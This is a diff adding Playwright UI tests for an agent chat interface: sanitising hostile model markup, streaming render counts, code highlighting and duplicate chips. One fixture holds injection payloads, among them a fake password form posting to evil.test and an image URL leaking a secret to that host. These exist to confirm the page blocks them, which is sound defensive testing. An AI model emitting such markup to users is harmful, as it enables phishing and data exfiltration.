@@ -7,6 +7,7 @@ tasks. The real server still serves the conversation and takes the messages the 
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 from playwright.sync_api import expect
@@ -129,3 +130,123 @@ def test_a_suggestion_chip_sends_its_text(open_page, ui_server, llm):
     expect(page.get_by_test_id("suggestion-chip")).to_have_count(0)
     expect(page.get_by_test_id("route-badge")).to_have_attribute("data-route", "pipeline")
     expect(assistant(page).last.get_by_test_id("assistant-text")).to_have_text("Going on.")
+
+
+HOSTILE_REPLY = (
+    'Hi <div style="position:fixed;inset:0;z-index:999;background:red">cover</div>\n\n'
+    '<div class="backdrop">dim the page</div>\n\n'
+    "<style>body { display: none }</style>\n\n"
+    '<form action="http://evil.test/login"><input name="password"><textarea></textarea>'
+    "<select><option>a</option></select><button>Log in</button></form>\n\n"
+    "![the secret](http://evil.test/pixel.png?secret=hunter2)\n\n"
+    '<img src="http://evil.test/raw.png" alt="">\n\n'
+    '<video src="http://evil.test/v.mp4" poster="http://evil.test/p.png"></video>\n\n'
+    '<table background="http://evil.test/bg.png"><tr><td>cell</td></tr></table>\n\n'
+    "![inline](data:image/gif;base64,R0lGODlhAQABAAAAACw=) ![own](/sentinel.png)"
+)
+
+
+def test_model_markup_cannot_restyle_the_page_pose_as_a_form_or_fetch_remote_urls(open_page, ui_server, llm):
+    page, cid, master = _open_conversation(open_page, ui_server)
+    remote: list[str] = []
+    page.route("http://evil.test/**", lambda route: (remote.append(route.request.url), route.abort()))
+    # the page's own image comes after the remote ones: once it is requested, they would have been too
+    with page.expect_request("**/sentinel.png"):
+        _inject(
+            page,
+            cid,
+            master,
+            "task-h",
+            [
+                (0, "ai_message_start", {"message_id": "reply-h", "display_name": "MasterAgent"}),
+                (1, "text_end", {"message_id": "reply-h", "content": HOSTILE_REPLY}),
+                (2, "task_complete", {}),
+            ],
+        )
+    body = assistant(page).get_by_test_id("assistant-text")
+    expect(body).to_contain_text("cell")
+    for selector in ("[style]", "style", "form", "input", "textarea", "select", "button", "video", "[background]",
+                     ".backdrop"):  # fmt: skip
+        expect(body.locator(selector)).to_have_count(0)
+    expect(body.locator("img")).to_have_count(2)
+    expect(body.locator("img").first).to_have_attribute("src", re.compile(r"^data:image/gif"))
+    expect(body.locator("img").last).to_have_attribute("src", "/sentinel.png")
+    link = body.get_by_role("link", name="the secret")
+    expect(link).to_have_attribute("href", "http://evil.test/pixel.png?secret=hunter2")
+    assert remote == []
+    assert page.evaluate("() => getComputedStyle(document.body).display") != "none"
+
+
+UNLABELLED_CODE = "Code:\n\n```\ndef greet(name):\n    return 'hi ' + name\n```\n"
+
+# Feeds `n` chunks to the reply, each in a task of its own (as socket messages come), and counts
+# how often the reply's HTML is replaced meanwhile.
+STREAM_CHUNKS = """([cid, master, n]) => new Promise((done) => {
+  const body = document.querySelector('[data-message-id="reply-s"] [data-testid="assistant-text"]');
+  window.__renders = 0;
+  new MutationObserver((records) => {
+    window.__renders += records.filter((r) => r.target === body).length;
+  }).observe(body, { childList: true });
+  const channel = new MessageChannel();
+  let i = 0;
+  channel.port1.onmessage = () => {
+    window.__agentChat.chat.ingest({ type: "text_chunk", data: { conversation_id: cid, agent_id: master,
+      task_id: "task-s", idx: 2 + i, message_id: "reply-s", content: ` c${String(i).padStart(3, "0")}` } });
+    if (++i < n) channel.port2.postMessage(0);
+    else done();
+  };
+  channel.port2.postMessage(0);
+})"""
+
+
+def test_a_streaming_reply_renders_once_a_frame_and_guesses_code_languages_when_done(open_page, ui_server, llm):
+    page, cid, master = _open_conversation(open_page, ui_server)
+    _inject(
+        page,
+        cid,
+        master,
+        "task-s",
+        [
+            (0, "ai_message_start", {"message_id": "reply-s", "display_name": "MasterAgent"}),
+            (1, "text_chunk", {"message_id": "reply-s", "content": UNLABELLED_CODE}),
+        ],
+    )
+    reply = assistant(page)
+    code = reply.locator("pre code")
+    expect(code).to_contain_text("def greet(name):")
+    expect(page.get_by_test_id("timeline")).to_have_attribute("aria-busy", "true")
+    # while it streams the block stays plain: guessing its language on every chunk is slow
+    expect(code.locator("span")).to_have_count(0)
+    expect(reply.locator(".code-lang")).to_have_count(0)
+
+    page.evaluate(STREAM_CHUNKS, [cid, master, 100])
+    body = reply.get_by_test_id("assistant-text")
+    expect(body).to_contain_text("c099")
+    renders = page.evaluate("() => window.__renders")
+    assert renders < 20, f"{renders} renders for 100 chunks"
+
+    full = UNLABELLED_CODE + "".join(f" c{i:03d}" for i in range(100))
+    _inject(page, cid, master, "task-s", [(102, "text_end", {"message_id": "reply-s", "content": full}),
+                                          (103, "task_complete", {})])  # fmt: skip
+    expect(reply).to_have_attribute("data-done", "true")
+    expect(code.locator("span.hljs-keyword").first).to_have_text("def")
+    expect(page.get_by_test_id("timeline")).to_have_attribute("aria-busy", "false")
+    assert page.evaluate("() => window.__agentChat.state.textMismatches") == 0
+
+
+def test_the_same_chip_or_option_twice_shows_once(open_page, ui_server, llm):
+    page, cid, master = _open_conversation(open_page, ui_server)
+    _inject(
+        page,
+        cid,
+        master,
+        "task-d",
+        [
+            (0, "ai_message_start", {"message_id": "reply-d", "display_name": "MasterAgent"}),
+            (1, "text_end", {"message_id": "reply-d", "content": "Pick a format."}),
+            (2, "ask_user", {"question_id": "q-d", "question": "Which format?", "options": ["CSV", "CSV", "JSON"]}),
+            (3, "suggestions", {"questions": ["continue", "continue", "stop"], "message_id": "reply-d"}),
+        ],
+    )
+    expect(page.get_by_test_id("ask-option")).to_have_text(["CSV", "JSON"])
+    expect(page.get_by_test_id("suggestion-chip")).to_have_text(["continue", "stop"])
